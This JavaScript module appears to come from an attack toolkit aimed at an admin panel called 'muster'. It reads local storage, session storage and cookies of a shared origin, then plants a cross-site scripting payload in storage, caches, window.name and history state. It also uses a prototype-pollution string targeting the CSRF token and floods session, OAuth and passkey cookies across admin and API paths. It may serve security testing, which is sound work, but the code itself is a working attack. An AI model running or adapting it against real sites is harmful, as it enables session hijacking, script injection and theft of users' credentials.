import { grab, grabAll } from './loot.js';

const junk = ['"><img src=x onerror=alert(1)>', '{"__proto__":{"csrfToken":"x"}}', 'null'];

/** Group 10: storage and cookies of the shared origin that the panel might read. */
export function overwriteStorage() {
  return grabAll([
    ['local storage', () => overwrite(localStorage)],
    ['session storage', () => overwrite(sessionStorage)],
    ['cookies', plantCookies],
    ['databases', plantDatabase],
    ['caches', plantCache],
    ['name and state', plantState],
  ]);
}

async function overwrite(storage) {
  const found = Object.entries(storage).map((entry) => entry.join('='));
  const names = [
    'muster.language',
    'muster.theme',
    'muster-language',
    'muster-appearance',
    'language',
    'appearance',
    'csrf-token',
  ];
  for (const name of [...Object.keys(storage), ...names]) storage.setItem(name, junk[0]);
  return found.join(' ');
}

/** The Cookie Store API exists in secure contexts only. */
function setCookie(text) {
  Reflect.set(document, 'cookie', text);
}

const cookieNames = ['muster_session', 'muster_oauth', 'muster_preview', 'muster_passkey', 'csrf-token'];
const cookiePaths = [
  ...['/', '/admin', '/admin/login', '/admin/nodes', '/api', '/api/me', '/api/nodes', '/api/auth'],
  ...['/api/auth/login', '/api/auth/oauth', '/api/auth/oauth/callback', '/api/settings'],
];

async function plantCookies() {
  const seen = document.cookie;
  for (const name of cookieNames.flatMap((one) => [one, `__Host-${one}`, `__Secure-${one}`]))
    for (const path of cookiePaths)
      for (const flags of ['', '; secure', `; domain=${location.hostname}`])
        setCookie(`${name}=${path === '/api' ? '' : 'A'.repeat(43)}; path=${path}; max-age=600${flags}`);
  return `${seen} then ${document.cookie}`;
}

function plantDatabase() {
  return new Promise((resolve, reject) => {
    const request = indexedDB.open('muster', 999);
    request.onsuccess = () => resolve('written');
    request.onerror = () => reject(request.error);
  });
}

async function plantCache() {
  const cache = await caches.open('muster');
  for (const path of ['/admin', '/admin/', '/api/me', '/api/nodes'])
    await cache.put(path, new Response(junk[0], { headers: { 'content-type': 'text/html' } }));
  return grab('kept', async () => (await caches.keys()).join(' '));
}

async function plantState() {
  window.name = junk[0];
  history.replaceState({ usr: junk[1], key: 'x' }, '');
  return 'written';
}
